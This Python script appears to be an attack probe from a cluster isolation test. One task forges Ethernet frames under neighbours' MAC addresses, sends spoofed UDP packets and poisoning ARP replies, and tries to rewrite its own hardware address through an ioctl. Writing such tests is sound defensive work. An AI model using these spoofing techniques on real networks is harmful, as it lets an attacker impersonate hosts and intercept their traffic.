"""Frames with another slot's hardware address: to speak in its name, and to draw its frames to itself."""

import fcntl
import os
import socket
import struct
import time

from attacker import FACTS, attempt
from wire import ARP, IPV4, MASTER, SLAVES, arp, frame, ipv4, macs_nearby, own_mac, packet_socket, udp

PORT, SIOCSIFHWADDR = 5100, 0x8924
if os.environ["SYNDICATE_TASK"] != "slave-0":
    time.sleep(1.4)
    os._exit(0)
others = list(FACTS["bystander"].values())
honest = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mac = own_mac()
wire = attempt("a packet socket", packet_socket)
until = time.monotonic() + 0.7
while time.monotonic() < until:
    if wire is not None:
        forged = udp(b"forged", PORT)
        for other in macs_nearby(mac):
            if other != mac:
                wire.send(frame(other, IPV4, ipv4(SLAVES[1], MASTER, forged)))
                wire.send(frame(other, ARP, arp(1, other, others[0], others[1])))
                wire.send(frame(other, IPV4, ipv4(others[0], others[1], udp(b"forged", 4000))))
    honest.sendto(b"look", (MASTER, PORT))
    time.sleep(0.1)
for _ in range(3):
    honest.sendto(b"done", (MASTER, PORT))
time.sleep(0.1)
for other in macs_nearby(mac):
    request = struct.pack("16sH6s8s", b"eth0", 1, other, b"")
    if attempt("a hardware address", fcntl.ioctl, honest, SIOCSIFHWADDR, request) is not None:
        attempt("forged", honest.sendto, b"forged", (MASTER, PORT))
